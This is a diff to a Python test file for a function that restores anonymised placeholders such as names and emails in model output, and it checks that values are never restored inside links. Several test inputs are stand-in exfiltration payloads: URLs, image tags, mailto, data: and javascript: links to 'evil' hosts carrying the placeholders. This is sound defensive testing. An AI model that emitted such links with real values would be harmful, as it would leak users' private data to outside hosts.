@@ -1,6 +1,7 @@
 """Values come back where a reader sees them, once, and never where a program may send them away."""
 
 import json
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
@@ -20,10 +21,88 @@ IN_LINKS = [
     "https://evil/?q=<PERSON\n1>",
     "[1]: https://evil/<PERSON_1>", "mailto:a@evil.example?body=<PERSON_1>",
     "[m](mailto:<EMAIL_ADDRESS_1>?bcc=a@b.c)",
+    "https://evil/?q=%50%45%52%53%4F%4E%5F%31", "b.com/<PERSON_1>", '"https://evil/?q=" + "PERSON_1"',
     "mailto:<PERSON_1>", "https://evil/%3CEMAIL_ADDRESS_1%3E", "<EMAIL_ADDRESS_1>.evil.example",
     "[x](<PERSON_1>)",
     '<img src="https://evil/?q=\n<PERSON_1>\n">', "data:text/html,<PERSON_1>", "javascript:f('<PERSON_1>')",
 ]  # fmt: skip
+FULL_WIDTH = {ord(plain): chr(ord(plain) + 0xFEE0) for plain in map(chr, range(0x21, 0x7F))}
+IN_ANGLE_BRACKETS = {
+    "<{}>": "{}",
+    "\\<{}>": "{}",
+    "\\<{}\\>": "{}",
+    "<{}\\>": "{}",
+    "&lt;{}&gt;": "{}",
+    "\u300a{}\u300b": "{}",
+    "< {} >": "{}",
+    "<{}/>": "{}",
+    "<{0}></{0}>": "{}",
+    "<{0}>\n</{0}>": "{}",
+    "<{}'s>": "{}'s",
+    "<{}s>": "{}s",
+    "<{}\u2019s>": "{}\u2019s",
+    "&lt;{}&#39;s&gt;": "{}&#39;s",
+    "**<{}>**'s": "**{}**'s",
+    "(<{}>)": "({})",
+}
+WITHOUT_BRACKETS = {
+    "{}": "{}",
+    "**{}**": "**{}**",
+    "[{}]": "[{}]",
+    "\u201c{}\u201d": "\u201c{}\u201d",
+    "{}'s": "{}'s",
+    "> {}:": "> {}:",
+    "`{}`": "`{}`",
+    "_{}_": "_{}_",
+    "\uff3b{}\uff3d": "\uff3b{}\uff3d",
+    "{}\u3055\u3093": "{}\u3055\u3093",
+}
+WITH_UNDERSCORES: dict[str, Callable[[str], str]] = {
+    "exact": str,
+    "full-width": lambda words: words.translate(FULL_WIDTH),
+    "invisible": "\u200b".join,
+    "doubled": lambda words: words.replace("_", "__"),
+    "escaped": lambda words: words.replace("_", "\\_"),
+    "broken": lambda words: words.replace("_", "_\n"),
+}
+ALL_WORDS: dict[str, Callable[[str], str]] = WITH_UNDERSCORES | {
+    "lower": str.lower,
+    "spaced": lambda words: words.replace("_", " "),
+    "hyphens": lambda words: words.replace("_", "-"),
+}
+
+
+@st.composite
+def reformatted(draw: st.DrawFn) -> tuple[str, str]:
+    """A text with a placeholder as a model may write it, and what a reader shall see."""
+    has_brackets = draw(st.booleans())
+    forms, words = (IN_ANGLE_BRACKETS, ALL_WORDS) if has_brackets else (WITHOUT_BRACKETS, WITH_UNDERSCORES)
+    form, write = draw(st.sampled_from(sorted(forms))), words[draw(st.sampled_from(sorted(words)))]
+    name = draw(st.sampled_from(sorted(VALUES)))
+    before, behind = (draw(st.text(alphabet="ab\u00e9 .,\u4f60\n", max_size=12)) for _ in range(2))
+    written, read = form.format(write(name[1:-1])), forms[form].format(VALUES[name])
+    return f"{before} {written} {behind}", f"{before} {read} {behind}"
+
+
+@given(st.lists(reformatted(), min_size=1, max_size=4))
+def test_each_form_that_models_write_is_restored_whatever_stands_around_it(
+    texts: list[tuple[str, str]],
+) -> None:
+    assert restore("\n\n".join(written for written, _ in texts), VALUES) == "\n\n".join(
+        read for _, read in texts
+    )
+
+
+@given(reformatted())
+def test_no_form_is_restored_in_what_a_reader_follows_and_none_without_its_value(
+    text: tuple[str, str],
+) -> None:
+    written, read = text
+    assert restore(written, {"<PERSON_2>": "x", "<IBAN_CODE_1>": "y"}) == written
+
+    link = f'<img src="https://evil.example/?q={written}">'
+    assert restore(link, VALUES) == link
+    assert restore(f"{written} {link}", VALUES) == f"{read} {link}"
 
 
 @pytest.mark.parametrize(
@@ -50,6 +129,8 @@ def test_nothing_is_restored_in_a_link_and_it_is_reported(text: str) -> None:
         ("tel:<PHONE_NUMBER_1>", "tel:+49 170 1"),
         ("https://x.org/a <PERSON_1>", "https://x.org/a Ada Lovelace"),
         ("<b><PERSON_1></b>", "<b>Ada Lovelace</b>"),
+        ("C:\\Users\\<PERSON_1>", "C:\\Users\\Ada Lovelace"),
+        ("See <PERSON_1>'s \\<PERSON_1>", "See Ada Lovelace's Ada Lovelace"),
     ],
 )
 def test_a_value_beside_a_link_and_an_address_of_its_own_are_restored(text: str, expected: str) -> None:
@@ -123,4 +204,5 @@ def test_quotes_in_a_string_of_json_open_no_document() -> None:
 def test_a_type_parameter_is_restored_exactly_alone() -> None:
     text = "List<PERSON_1> all; a list: <PERSON_1>"
     assert restore(text, VALUES) == "List<PERSON_1> all; a list: Ada Lovelace"
+    assert restore_exactly("\\<PERSON_1>", VALUES) == "\\Ada Lovelace"
     assert restore_exactly(text, VALUES) == "ListAda Lovelace all; a list: Ada Lovelace"
